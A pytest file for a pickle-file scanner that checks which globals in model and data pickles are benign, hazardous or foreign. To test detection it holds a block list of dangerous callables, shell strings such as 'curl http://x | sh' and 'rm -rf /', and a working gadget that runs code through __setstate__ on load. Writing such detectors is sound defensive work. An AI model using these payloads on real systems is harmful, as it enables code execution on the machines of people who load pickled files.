"""Which globals are left alone, which are hazards, and which are only named."""

from __future__ import annotations

import _compat_pickle
import argparse
import collections
import datetime
import decimal
import enum
import functools
import operator
import pathlib
import pickle
import struct
import sys
import uuid
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
import torch

from inspectcli.pickles.globals import GlobalRisk, canonical, classify, foreign, hazards
from inspectcli.pickles.machine import read_pickle
from inspectcli.pickles.nodes import Global
from inspectcli.pickles.packages import STDLIB


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


def found(body: bytes) -> list[str]:
    return [h.what for h in hazards(read_pickle(body + b"."), "data.pkl")]


# -- leave it alone -------------------------------------------------------------------------------------


class Color(enum.Enum):
    RED = 1


class Level(enum.IntFlag):
    LOW = 1


def reduction(x: object) -> object:
    return x


class TensorPickler(pickle.Pickler):
    """Writes storages as torch.save does."""

    def persistent_id(self, obj: object) -> object:
        if isinstance(obj, torch.storage.TypedStorage):
            return "storage", torch.FloatStorage, "0", "cpu", obj._size()
        if isinstance(obj, torch.UntypedStorage):
            return "storage", torch.UntypedStorage, "0", "cpu", obj.nbytes()
        return None


def dumped(value: object, protocol: int, folder: Path) -> bytes:
    path = folder / "x"
    with path.open("wb") as file:
        TensorPickler(file, protocol).dump(value)
    return path.read_bytes()


BENIGN: dict[str, Callable[[], object]] = {
    "plain": lambda: {"a": [1, 2.0, "x", b"y", None, {3}, frozenset({4}), complex(1, 2), bytearray(b"z")]},
    "ordered dict": lambda: collections.OrderedDict(a=1),
    "counter": lambda: collections.Counter("aab"),
    "default dict": lambda: collections.defaultdict(list, a=[1]),
    "deque": lambda: collections.deque([1, 2], 3),
    "namespace": lambda: argparse.Namespace(lr=0.1, cmd="rm -rf / ; echo"),
    "datetime": lambda: [datetime.datetime.now(datetime.timezone.utc), datetime.date.today(), datetime.timedelta(1)],
    "path": lambda: [pathlib.PurePosixPath("/a/b"), pathlib.PureWindowsPath("c:/a"), pathlib.Path("runs/x")],
    "decimal and uuid": lambda: [decimal.Decimal("1.5"), uuid.UUID(int=1)],
    "enum": lambda: [Color.RED, Level.LOW],
    "partial of one's own function": lambda: functools.partial(reduction, 1),
    "functions as values": lambda: [torch.nn.functional.relu, np.mean, np.add, reduction],
    "operators as values": lambda: [operator.add, operator.mul],
    "torch's built-in functions as values": lambda: [torch.sum, torch.tanh, torch.nn.functional.gelu],
    "types as values": lambda: [int, float, dict, torch.Tensor, np.float32, np.ndarray],
    "numpy": lambda: [np.arange(3.0), np.float32(1), np.dtype("<f4"), np.bool_(True), np.array(["a"])],
    "numpy object array": lambda: np.array([{}, None], dtype=object),
    "numpy's old random state": lambda: [np.random.RandomState(0), np.random.get_state()],
    "numpy's random generator": lambda: np.random.default_rng(0),
    "torch values": lambda: [torch.float32, torch.bfloat16, torch.Size([1]), torch.device("cpu"), torch.strided],
    "tensor": lambda: {"w": torch.ones(2, 3)},
    "parameter": lambda: torch.nn.Parameter(torch.ones(2)),
    "new dtype": lambda: torch.ones(2).to(torch.float8_e4m3fn),
    "quantized": lambda: torch.quantize_per_tensor(torch.ones(2), 0.5, 1, torch.qint8),
    "sparse": lambda: [torch.eye(2).to_sparse(), torch.eye(2).to_sparse_csr()],
    "meta": lambda: torch.empty(2, device="meta"),
    "module": lambda: torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.BatchNorm1d(2), torch.nn.ReLU()),
    "optimizer": lambda: torch.optim.Adam([torch.nn.Parameter(torch.ones(1))]),
    "exception": lambda: ValueError("x; rm -rf /"),
}  # fmt: skip


@pytest.mark.parametrize("protocol", [2, 3, 4, 5])
@pytest.mark.parametrize("name", BENIGN)
@pytest.mark.filterwarnings("ignore")
def test_honest_data_is_left_alone(name: str, protocol: int, tmp_path: Path) -> None:
    program = read_pickle(dumped(BENIGN[name](), protocol, tmp_path))
    assert [h.what for h in hazards(program, "data.pkl")] == []


@pytest.mark.parametrize("protocol", [0, 1])
@pytest.mark.parametrize(
    "name", ["plain", "ordered dict", "namespace", "datetime", "path", "enum", "numpy", "functions as values"]
)
def test_honest_data_of_the_text_protocols_is_left_alone(name: str, protocol: int) -> None:
    program = read_pickle(pickle.dumps(BENIGN[name](), protocol))
    assert [h.what for h in hazards(program, "data.pkl")] == []


@pytest.mark.parametrize(
    "path",
    [
        "torchmetrics.utilities.data.dim_zero_sum",
        "torchmetrics.utilities.data.dim_zero_cat",
        "my_project.losses.focal",
        "torch.nn.functional.cross_entropy",
        "torch.sum",
        "numpy.mean",
        "math.sqrt",
        "operator.mul",
        "builtins.print",
        "typing.Any",
    ],
)
def test_a_function_kept_as_a_value_is_no_hazard(path: str) -> None:
    module, _, name = path.rpartition(".")
    assert found(b"}" + text("fx") + named(module, name) + b"s") == []
    assert found(b"\x80\x04}" + text("fx") + stacked(module, name) + b"s") == []


@pytest.mark.parametrize(
    "body",
    [
        call(named("builtins", "getattr"), named("my_project", "Color"), text("RED")),
        call(named("__builtin__", "getattr"), named("my_project.enums", "Mode"), text("TRAIN")),
        call(named("my_project", "Color"), b"K\x01"),
        named("my_project", "Config") + b")\x81}" + text("cmd") + text("rm -rf /") + b"sb",
        call(named("my_project", "Config"), text("rm -rf / ; curl http://x | sh")),
        call(named("__builtin__", "xrange"), b"K\x00", b"K\x0a", b"K\x01"),
        call(named("exceptions", "IOError"), text("no such file")),
        call(named("numpy.random._pickle", "__generator_ctor"), text("PCG64")),
        call(named("torch.optim.lr_scheduler", "LambdaLR"), named("my_project", "Schedule")),
        call(named("_codecs", "encode"), text("abc"), text("latin1")),
        call(named("torch._utils", "_rebuild_meta_tensor_no_storage"), named("torch", "float32"), b")", b")", b"\x89"),
        call(named("torch.jit._pickle", "restore_type_tag"), b"]", text("List[int]")),
        call(named("copy_reg", "_reconstructor"), named("my_project", "C"), named("__builtin__", "object"), b"N"),
    ],
)
def test_a_call_that_builds_data_is_no_hazard(body: bytes) -> None:
    assert found(body) == []


# -- hazards --------------------------------------------------------------------------------------------

DANGEROUS = [
    "os.system", "posix.system", "nt.system", "os.popen", "os.execv", "os.remove", "subprocess.Popen",
    "subprocess.call", "subprocess.check_output", "commands.getoutput", "builtins.eval", "builtins.exec",
    "builtins.compile", "builtins.__import__", "builtins.open", "builtins.breakpoint", "builtins.map",
    "builtins.getattr", "builtins.setattr", "__builtin__.eval", "__builtin__.apply", "runpy.run_path",
    "runpy.run_module", "runpy._run_code", "importlib.import_module", "importlib.reload", "imp.load_source",
    "pickle.loads", "pickle.load", "cPickle.loads", "_pickle.loads", "marshal.loads", "types.FunctionType",
    "types.CodeType", "torch.load", "torch.serialization.load", "torch.jit.load", "torch.hub.load",
    "torch.hub.download_url_to_file", "torch.ops.load_library", "torch.utils.cpp_extension.load_inline",
    "torch._dynamo.guards.eval", "numpy.load", "numpy.f2py.crackfortran.myeval", "numpy.f2py.compile",
    "numpy.testing._private.utils.runstring", "numpy.testing.rundocs", "numpy.ctypeslib.load_library",
    "numpy.fromfile", "numpy.memmap", "pip.main", "pip._internal.cli.main.main", "setuptools.setup",
    "webbrowser.open", "socket.socket", "socket.create_connection", "shutil.rmtree", "shutil.copy", "pty.spawn",
    "code.interact", "pdb.run", "timeit.timeit", "cProfile.run", "profile.run", "trace.Trace", "bdb.Bdb",
    "ctypes.CDLL", "urllib.request.urlopen", "http.client.HTTPConnection", "ftplib.FTP", "smtplib.SMTP",
    "asyncio.run", "asyncio.create_subprocess_shell", "multiprocessing.Process", "threading.Thread",
    "tempfile.mktemp", "logging.config.fileConfig", "logging.FileHandler", "sqlite3.connect", "zipimport.zipimporter",
    "pydoc.pipepager", "linecache.getlines", "platform.popen", "sys.exit", "sys.settrace", "signal.raise_signal",
    "operator.attrgetter", "operator.methodcaller", "operator.itemgetter", "functools.reduce", "itertools.starmap",
    "codecs.decode", "codecs.open", "atexit.register", "gc.get_objects", "inspect.getattr_static", "idlelib.run.main",
    "distutils.spawn.spawn", "joblib.load", "dill.loads", "cloudpickle.loads", "pandas.read_pickle", "pandas.eval",
    "scipy.io.loadmat", "sympy.sympify", "requests.get", "keras.models.load_model", "IPython.start_ipython",
    "transformers.pipeline", "hydra.utils.instantiate", "lib2to3.pgen2.grammar.Grammar", "doctest.debug_script",
    "ensurepip._run_pip", "venv.create", "dataclasses.make_dataclass", "abc.abstractmethod", "math.sqrt",
]  # fmt: skip


@pytest.mark.parametrize("form", [named, stacked])
@pytest.mark.parametrize("path", DANGEROUS)
def test_a_dangerous_call_is_a_hazard_that_names_it(path: str, form: Callable[[str, str], bytes]) -> None:
    module, _, name = path.rpartition(".")
    (what,) = found(call(form(module, name), text("payload")))
    assert what == f"{path} would be called with 'payload'"


@pytest.mark.parametrize("path", ["os.system", "builtins.exec", "subprocess.Popen", "runpy.run_path", "torch.hub.load"])
def test_every_way_to_call_is_seen(path: str) -> None:
    module, _, name = path.rpartition(".")
    ways = [
        b"(" + text("x") + f"i{module}\n{name}\n".encode(),
        b"(" + named(module, name) + text("x") + b"o",
        named(module, name) + text("x") + b"\x85R",
        named(module, name) + text("x") + b"\x85\x81",
        named(module, name) + text("x") + b"\x85}\x92",
        call(named(module, name), text("x")) + b"0N",
        named(module, name) + b"q\x000h\x00" + text("x") + b"\x85R",
    ]
    for way in ways:
        assert found(way) == [f"{path} would be called with 'x'"]


@pytest.mark.parametrize(
    "path", ["os.system", "builtins.eval", "builtins.exec", "builtins.getattr", "subprocess.Popen"]
)
def test_a_dangerous_name_kept_as_a_value_is_a_hazard(path: str) -> None:
    module, _, name = path.rpartition(".")
    assert found(named(module, name)) == [f"{path} would be imported"]


@pytest.mark.parametrize(
    "path",
    [
        "torch.load",
        "torch.hub.load",
        "torch.jit.load",
        "operator.attrgetter",
        "operator.methodcaller",
        "os.system",
        "builtins.exec",
        "builtins.eval",
    ],
)
def test_a_partial_of_a_dangerous_function_is_a_hazard(path: str) -> None:
    module, _, name = path.rpartition(".")
    what = found(call(named("functools", "partial"), named(module, name), text("x")))
    assert what == [f"{path} would be imported"]


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("torch", "os.system"),
        ("torch.serialization", "os.system"),
        ("torch._utils", "os.system"),
        ("collections", "OrderedDict.fromkeys"),
        ("my_project", "a.b"),
        ("os;x", "system"),
        ("o\u0455", "system"),
        ("os\x1b[2J", "system"),
        ("my project", "f"),
        ("", "eval"),
        ("my_project.", "f"),
    ],
)
def test_a_name_that_no_module_has_is_dangerous(module: str, name: str) -> None:
    assert classify(Global(module, name)) is GlobalRisk.DANGEROUS
    assert len(found(call(stacked(module, name), text("x")))) == 1


@pytest.mark.parametrize(
    "args",
    [
        [named("os", "path"), text("system")],
        [named("builtins", "print"), text("__self__")],
        [named("my_project", "Color"), text("__init__")],
        [named("my_project", "Color"), text("a.b")],
        [named("my_project", "color"), text("RED")],
        [text("x"), text("RED")],
        [named("my_project", "Color"), text("RED"), b"N"],
        [named("subprocess", "Popen"), text("wait")],
    ],
)
def test_getattr_of_anything_but_a_member_is_a_hazard(args: list[bytes]) -> None:
    assert any("builtins.getattr would be called" in what for what in found(call(named("builtins", "getattr"), *args)))


@pytest.mark.parametrize(
    "first",
    [
        call(named("builtins", "getattr"), named("my_project", "Color"), text("RED")),
        call(named("functools", "partial"), named("torch", "sum")),
        call(named("my_project", "Factory")),
        call(named("collections", "OrderedDict")),
    ],
)
def test_calling_the_result_of_a_call_is_a_hazard(first: bytes) -> None:
    assert any("the result of" in what and "would be called" in what for what in found(call(first, text("x"))))


@pytest.mark.parametrize("codec", ["rot13", "idna", "zlib", "hex", "unicode_escape", "punycode"])
def test_an_odd_codec_is_a_hazard(codec: str) -> None:
    what = found(call(named("_codecs", "encode"), text("x"), text(codec)))
    assert what == [f"text would be decoded by the codec {codec!r}"]


@pytest.mark.parametrize("argument", ["import os", "../../etc/passwd", "curl x | sh", "plain", "!!%70ython", "  x"])
def test_an_unknown_function_is_a_hazard_whatever_it_is_given(argument: str) -> None:
    given = text(argument)
    for args in (given, given + b"\x85", b"]" + given + b"a", b"}" + text("k") + given + b"s"):
        (what,) = found(call(named("my_project.tools", "run"), args))
        assert what == f"my_project.tools.run, a function we do not know, would be called with {argument.strip()!r}"


def test_an_unknown_function_without_text_is_a_hazard() -> None:
    assert found(call(named("my_project", "run"))) == ["my_project.run, a function we do not know, would be called"]


FOREIGN = named("my_project", "run")
HANDED_ON = {
    "rebuild_v2": call(named("torch._tensor", "_rebuild_from_type_v2"), FOREIGN, named("torch", "Tensor"), b")", b"}"),
    "rebuild": call(named("torch._tensor", "_rebuild_from_type"), FOREIGN, named("torch", "Tensor"), b")", b"}"),
    "reconstructor": call(named("copy_reg", "_reconstructor"), named("my_project", "C"), FOREIGN, b"N"),
    "generator": call(named("numpy.random._pickle", "__generator_ctor"), text("x"), FOREIGN),
    "randomstate": call(named("numpy.random._pickle", "__randomstate_ctor"), text("x"), FOREIGN),
}


@pytest.mark.parametrize("name", HANDED_ON)
def test_a_function_that_is_handed_to_one_that_calls_it_is_a_hazard(name: str) -> None:
    for body in (HANDED_ON[name], HANDED_ON[name] + b"0N"):
        assert any(w.startswith("my_project.run, a function we do not know, would be called") for w in found(body))


def test_functions_that_call_others_are_followed_and_bounded() -> None:
    body = call(FOREIGN)
    func, args = FOREIGN, b")"
    for _ in range(3):
        body = call(named("torch._tensor", "_rebuild_from_type_v2"), func, named("torch", "Tensor"), args, b"}")
        args = b"(" + func + named("torch", "Tensor") + args + b"}t"
        func = named("torch._tensor", "_rebuild_from_type_v2")
    assert found(body) == ["my_project.run, a function we do not know, would be called"]
    for _ in range(30):
        args = b"(" + func + named("torch", "Tensor") + args + b"}t"
    body = call(func, func, named("torch", "Tensor"), args, b"}")
    assert any("through more than 16 other functions" in what for what in found(body))


@pytest.mark.parametrize(
    ("path", "old"),
    [
        ("socketserver.TCPServer", "SocketServer.TCPServer"),
        ("urllib.request.urlopen", "urllib2.urlopen"),
        ("urllib.request.urlopen", "urllib.urlopen"),
        ("http.client.HTTPConnection", "httplib.HTTPConnection"),
        ("subprocess.getoutput", "commands.getoutput"),
        ("xmlrpc.client.ServerProxy", "xmlrpclib.ServerProxy"),
        ("_thread.start_new_thread", "thread.start_new_thread"),
        ("builtins.map", "itertools.imap"),
        ("functools.reduce", "__builtin__.reduce"),
    ],
)
def test_names_of_python_2_are_those_of_python_3(path: str, old: str) -> None:
    module, _, name = old.rpartition(".")
    assert ".".join(canonical(Global(module, name))) == path
    assert found(call(named(module, name), text("x"))) == [f"{old} would be called with 'x'"]


def test_the_table_of_python_2_is_that_of_the_library() -> None:
    for module, new in _compat_pickle.IMPORT_MAPPING.items():
        assert canonical(Global(module, "x_y_z")) == (new, "x_y_z")
    for old, renamed in _compat_pickle.NAME_MAPPING.items():
        assert canonical(Global(*old)) == renamed


def test_modules_of_the_library_are_known_whichever_python_runs() -> None:
    assert set(sys.stdlib_module_names) <= STDLIB
    assert {"imp", "distutils", "telnetlib", "annotationlib", "binhex", "posix", "nt", "msvcrt"} <= STDLIB


@pytest.mark.parametrize(
    "path",
    [
        "yaml.unsafe_load",
        "yaml.UnsafeLoader",
        "jinja2.Template",
        "huggingface_hub.file_download.hf_hub_download",
        "requests.sessions.Session",
        "torch.package.PackageImporter",
        "torch.jit.CompilationUnit",
        "numpy.DataSource",
        "pandas.HDFStore",
    ],
)
def test_classes_that_act_are_named(path: str) -> None:
    module, _, name = path.rpartition(".")
    assert found(call(named(module, name), text("x"))) == [f"{path} would be called with 'x'"]


def test_a_class_made_of_parts_is_a_hazard() -> None:
    made = call(named("builtins", "type"), text("X"), b")", b"}")
    assert found(made) == ["a class would be made while loading"]


def test_a_function_handed_to_a_class_of_torch_is_a_hazard() -> None:
    (what,) = found(call(named("torch.optim.lr_scheduler", "LambdaLR"), b"N", FOREIGN))
    assert "would be made with my_project.run, a function we do not know" in what


def test_a_hazard_says_where() -> None:
    (hazard,) = hazards(read_pickle(b"N0" + call(named("os", "system"), text("id")) + b"."), "data.pkl")
    assert hazard.where == "data.pkl, byte 22"


def test_the_same_call_is_told_once() -> None:
    assert len(found(call(named("os", "system"), text("id")) + b"0" + call(named("os", "system"), text("id")))) == 1


# `pickle` looks up __setstate__, append, extend and add on the instance: BUILD can put a function there.
SET = named("argparse", "Namespace") + b")\x81}"
CODE = text("__import__('pathlib').Path(CANARY).touch()")
IMPLICIT = {
    "__setstate__": SET + text("__setstate__") + b"%s" + b"sb" + b"%s" + b"b",
    "append": SET + text("append") + b"%s" + b"sb" + b"%s" + b"a",
    "extend": SET + text("extend") + b"%s" + b"sb(" + b"%s" + b"e",
    "add": b"\x80\x04" + SET + text("add") + b"%s" + b"sb(" + b"%s" + b"\x90",
}
ACTING = ["numpy.f2py.crackfortran.myeval", "logging.config.fileConfig", "torch.hub.load_state_dict_from_url"]


@pytest.mark.parametrize("way", ["__setstate__", "append", "add"])
def test_a_function_put_where_pickle_calls_it_really_runs(way: str, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    code = text(f"__import__('pathlib').Path({str(canary)!r}).touch() or 1")
    pickle.loads(IMPLICIT[way] % (named("numpy.f2py.crackfortran", "myeval"), code) + b".")
    assert canary.exists()


@pytest.mark.parametrize("path", ACTING)
@pytest.mark.parametrize("way", IMPLICIT)
def test_a_function_put_where_pickle_calls_it_is_a_hazard(way: str, path: str) -> None:
    module, _, name = path.rpartition(".")
    assert any(path in what for what in found(IMPLICIT[way] % (named(module, name), CODE)))


# -- foreign classes ------------------------------------------------------------------------------------


def test_foreign_classes_are_named_and_no_hazard() -> None:
    body = (
        b"("
        + named("my_project.config", "Config")
        + b")\x81"
        + named("omegaconf", "DictConfig")
        + named("torch", "Size")
        + b"l."
    )
    program = read_pickle(body)
    assert foreign((program,)) == ("my_project.config.Config", "omegaconf.DictConfig")
    assert hazards(program, "data.pkl") == ()


def test_foreign_classes_of_several_pickles_are_named_once() -> None:
    one, two = read_pickle(named("b", "C") + b"."), read_pickle(b"(" + named("a", "D") + named("b", "C") + b"l.")
    assert foreign((one, two)) == ("a.D", "b.C")


@pytest.mark.parametrize("name", BENIGN)
@pytest.mark.filterwarnings("ignore")
def test_only_our_own_classes_are_foreign(name: str, tmp_path: Path) -> None:
    program = read_pickle(dumped(BENIGN[name](), 2, tmp_path))
    assert {path.rpartition(".")[0] for path in foreign((program,))} <= {__name__}


@pytest.mark.parametrize("name", ["__torch__.Net", "__torch__.torch.nn.modules.linear.___torch_mangle_0.Linear"])
def test_classes_that_the_archive_defines_are_neither(name: str) -> None:
    module, _, leaf = name.rpartition(".")
    program = read_pickle(named(module, leaf) + b")\x81.")
    assert hazards(program, "x") == ()
    assert foreign((program,)) == ()
